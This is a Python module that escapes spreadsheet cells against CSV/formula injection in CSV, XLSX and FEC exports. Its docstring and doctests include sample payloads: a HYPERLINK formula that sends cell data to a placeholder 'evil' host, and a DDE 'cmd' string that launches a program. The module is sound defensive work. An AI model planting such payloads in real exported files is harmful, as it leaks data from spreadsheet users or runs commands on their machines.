"""Formula-safe cells for every file a spreadsheet may open (CSV, XLSX, the FEC).

A spreadsheet reads a text cell that begins with `=`, `+`, `-` or `@` as a formula (CSV
injection): a customer named `=HYPERLINK("http://evil/?"&A1;"Cliquez")` would run in the
accountant's Excel. The OWASP rule is applied to every text cell: when it begins with one of
those characters, or with a tab or a carriage return (also after leading spaces, which some
spreadsheets trim on import), it is prefixed with a single quote, which spreadsheets show as
text. Numbers, Decimals, dates and booleans keep their type and are never touched; a text that
is a plain signed number (`-120.50`, `-1250,50`, how CSV writes a negative amount) is a number
to a spreadsheet, not a formula, and stays as it is.

>>> safe_cell('=HYPERLINK("http://evil")')
'\\'=HYPERLINK("http://evil")'
>>> safe_cell("@SUM(A1:A2)"), safe_cell("+cmd|' /C calc'!A0"), safe_cell("  =1+1")
("'@SUM(A1:A2)", "'+cmd|' /C calc'!A0", "'  =1+1")
>>> safe_cell("-120.50"), safe_cell("-1250,50"), safe_cell("-5 % remise")
('-120.50', '-1250,50', "'-5 % remise")
>>> from decimal import Decimal
>>> safe_cell(Decimal("-3.20")), safe_cell(-7), safe_cell(None), safe_cell("Dupont SAS")
(Decimal('-3.20'), -7, None, 'Dupont SAS')
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = frozenset("=+-@\t\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read this text as a formula (or a DDE command)?"""
    stripped = text.lstrip(" ")
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return False
    return _PLAIN_NUMBER.fullmatch(stripped) is None


def safe_text(text: str) -> str:
    """The text, prefixed with a single quote when a spreadsheet would run it."""
    return QUOTE + text if is_formula_like(text) else text


def safe_cell(value: Any) -> Any:
    """A cell's value made safe: text escaped, every other type returned as it is."""
    return safe_text(value) if isinstance(value, str) else value


def safe_values(values: Iterable[Any]) -> list[Any]:
    """A row of cells (a list for `csv.writer` or `Worksheet.append`) made safe."""
    return [safe_cell(value) for value in values]


def safe_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A row of named cells (for `csv.DictWriter`) made safe; the names are ours."""
    return {name: safe_cell(value) for name, value in row.items()}
